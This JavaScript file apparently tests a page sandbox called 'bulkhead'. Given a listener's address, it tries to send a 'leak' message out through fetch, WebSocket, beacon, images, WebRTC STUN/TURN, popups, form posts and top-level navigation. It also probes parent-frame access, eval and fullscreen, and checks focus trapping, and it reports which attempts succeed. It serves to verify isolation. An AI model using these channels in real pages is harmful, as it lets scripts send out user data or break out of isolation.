// Told where somebody listens, it tries to get a word there by every way a page knows; none may arrive.
const outcome = {};

async function attempt(name, deed) {
  try {
    outcome[name] = String(await deed());
  } catch (error) {
    outcome[name] = error.name;
  }
}

function element(name, properties) {
  const made = Object.assign(document.createElement(name), properties);
  document.body.append(made);
  return made;
}

async function webRtc(ip, udp, tcp) {
  const iceServers = [
    { urls: `stun:${ip}:${udp}` },
    { urls: `turn:${ip}:${tcp}?transport=tcp`, username: 'a', credential: 'b' },
  ];
  const connection = new RTCPeerConnection({ iceServers });
  connection.createDataChannel('leak');
  await connection.setLocalDescription(await connection.createOffer());
  return 'tried';
}

async function tryAll({ ip, udp, tcp }) {
  const http = `http://${ip}:${tcp}/`;
  await attempt('fetch', () => fetch(http, { mode: 'no-cors' }).then(() => 'out'));
  await attempt('socket', () => new WebSocket(`ws://${ip}:${tcp}/`).url);
  await attempt('beacon', () => navigator.sendBeacon(http, 'leak'));
  await attempt(
    'image',
    () => new Promise((resolve) => Object.assign(new Image(), { src: http, onerror: () => resolve('refused') })),
  );
  await attempt('preconnect', () =>
    document.head.append(Object.assign(document.createElement('link'), { rel: 'preconnect', href: http })),
  );
  await attempt('rtc', () => webRtc(ip, udp, tcp));
  await attempt('popup', () => open(http) === null);
  await attempt('storage', () => localStorage.length);
  await attempt('parent', () => parent.document.title);
  await attempt('top', () => {
    top.location.href = http;
    return 'led away';
  });
  await attempt('nested', () => {
    element('iframe', {}).srcdoc = '<p>inside</p>';
    return 'nested';
  });
  await attempt('blank', () => typeof element('iframe', {}).contentWindow.RTCPeerConnection);
  await attempt('eval', () => new Function('return 1')());
  await attempt('form', () => {
    element('form', { action: http, method: 'post' }).submit();
    return 'tried';
  });
  await attempt('alert', () => alert('leak'));
  await attempt('fullscreen', () => document.documentElement.requestFullscreen().then(() => 'covered'));
  bulkhead.post(outcome);
}

bulkhead.onMessage(({ note }) => {
  const [ip, udp, tcp] = note.split(' ');
  void tryAll({ ip, udp, tcp });
});
// Puts the keyboard where no script of this page hears it, and so nobody who came first does either.
let hole;
document.getElementById('swallow').addEventListener('click', () => {
  hole = element('iframe', { title: 'Hole' });
  hole.focus();
});
setInterval(() => {
  if (hole) return;
  window.focus();
  document.getElementById('trap').focus();
}, 20);
